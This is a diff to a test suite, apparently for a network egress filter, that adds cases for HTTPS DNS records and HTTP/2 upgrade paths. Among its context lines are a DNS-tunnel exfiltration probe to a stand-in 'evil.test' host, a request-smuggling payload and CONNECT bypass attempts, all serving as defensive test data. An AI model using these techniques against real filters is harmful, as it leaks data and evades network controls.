@@ -122,6 +122,7 @@ describe.skipIf(cannotNetwork)('rules by name', () => {
       'a name that only ends alike': "reached('http://evilexample.com/')",
       'resolving another name': "resolve('other.test')",
       'its type TXT': "query('txt.evil.test', kind=16)",
+      'hints that lead past the check (HTTPS records)': "query('example.com', kind=65)",
       'DNS exfiltration': "query('c2VjcmV0.tunnel.evil.test')",
       'address, TLS without a name': `reached('https://${example.v4}/')`,
       'address by HTTP': `reached('http://${example.v4}/')`,
@@ -180,6 +181,11 @@ describe.skipIf(cannotNetwork)('rules by name', () => {
       'no Host': http('GET /none HTTP/1.0\r\n\r\n'),
       CONNECT: http('CONNECT other.test:443 HTTP/1.1\r\nHost: example.com\r\n\r\n'),
       'CONNECT to an allowed one': http('CONNECT example.com:22 HTTP/1.1\r\nHost: example.com:22\r\n\r\n'),
+      'absolute form with TLS': http('GET https://example.com/tls HTTP/1.1\r\nHost: example.com\r\n\r\n'),
+      'HTTP/2 at once': http('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
+      'HTTP/2 by upgrade': http(
+        'GET /h2c HTTP/1.1\r\nHost: example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n',
+      ),
       'two lengths': http(
         'POST /smuggle HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\nHost: other.test\r\n\r\n',
       ),
